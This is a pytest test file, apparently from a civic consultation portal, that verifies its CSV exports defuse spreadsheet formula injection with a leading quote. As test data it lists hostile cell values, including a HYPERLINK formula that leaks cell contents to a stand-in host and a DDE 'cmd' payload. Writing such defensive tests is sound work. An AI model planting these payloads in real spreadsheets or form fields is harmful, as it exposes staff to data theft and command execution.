"""CSV outputs stay inert whatever is stored (specification §10).

A cell starting with = + - @ (or a tab or carriage return) runs as a formula when staff
open the export in a spreadsheet; every CSV the portal writes neutralises it with a leading
single quote (OWASP, "CSV injection").
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from civicportal.accounts.census import hash_census_file
from civicportal.kernel.csv_export import csv_cell, csv_writer
from civicportal.kernel.models import Job
from civicportal.kernel.services import job_run
from consultations import services as consultations_services
from consultations.roles import CONSULTATION_MANAGER
from tests.accounts.factories import StaffFactory, UserFactory
from tests.consultations.conftest import Questionnaire
from tests.consultations.factories import ConsultationFactory

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Bike lanes", "", "3 = three", "e-mail", 42, -3, 2.5, None])
def test_text_that_does_not_start_a_formula_and_numbers_are_left_alone(value):
    assert csv_cell(value) == value


def test_the_writer_keeps_each_hostile_value_in_its_own_quoted_cell():
    out = io.StringIO()
    csv_writer(out).writerow(["ok", '=1+1,"@x"', -5])
    assert out.getvalue() == 'ok,"\'=1+1,""@x""",-5\r\n'
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["ok", '\'=1+1,"@x"', "-5"]


@pytest.mark.django_db
def test_the_consultation_export_neutralises_residents_formulas(client, settings, tmp_path):
    settings.PRIVATE_MEDIA_ROOT = tmp_path / "private"  # where the export job keeps its file
    questionnaire = Questionnaire(ConsultationFactory())
    idea, agree = questionnaire.idea, questionnaire.agree
    answers = [("=1+2", "+1 for lanes"), ("-2", "@SUM(A1:A9)"), ("=cmd|'/C calc'!A0", "Fine")]
    for idea_text, comment in answers:
        consultations_services.response_submit(
            consultation=questionnaire.consultation,
            user=UserFactory(),
            answers=questionnaire.valid(
                {
                    idea.pk: {"text": idea_text},
                    agree.pk: {"value": "yes", "comment": comment},
                }
            ),
        )
    client.force_login(StaffFactory(role=CONSULTATION_MANAGER, mfa=True))
    # The export is a background job: the button starts it, the job's page hands out the file.
    started = client.post(f"/staff/consultations/{questionnaire.consultation.slug}/results/export/")
    job = Job.objects.get()
    assert started.status_code == 302 and started["Location"] == job.get_absolute_url()
    job_run(job.pk)  # what the worker does with the task
    response = client.get(f"/staff/jobs/{job.pk}/download/")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    header = rows[0]
    ideas = [row[header.index("4. Ideas?")] for row in rows[1:]]
    comments = [row[header.index("6. comment")] for row in rows[1:]]
    assert ideas == ["'=1+2", "'-2", "'=cmd|'/C calc'!A0"]
    assert comments == ["'+1 for lanes", "'@SUM(A1:A9)", "Fine"]
    assert [row[0] for row in rows[1:]] == ["1", "2", "3"]  # numbers stay numbers


def test_the_hashed_census_file_neutralises_an_area_cell():
    out = io.StringIO()
    hash_census_file(io.StringIO("identifier,area\n1201743389,=1+1\n"), out)
    assert out.getvalue().splitlines()[1].endswith(",'=1+1")


def test_every_csv_writer_of_the_portal_is_the_safe_one():
    """A new export must use civicportal.kernel.csv_export (Pabulib files are data, not sheets)."""
    allowed = {Path("civicportal/kernel/csv_export.py"), Path("budgeting/pabulib/writing.py")}
    pattern = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = []
    for package in ("civicportal", "proposals", "consultations", "budgeting", "alerts"):
        for path in (ROOT / package).rglob("*.py"):
            relative = path.relative_to(ROOT)
            if relative not in allowed and pattern.search(path.read_text(encoding="utf-8")):
                offenders.append(str(relative))
    assert offenders == []
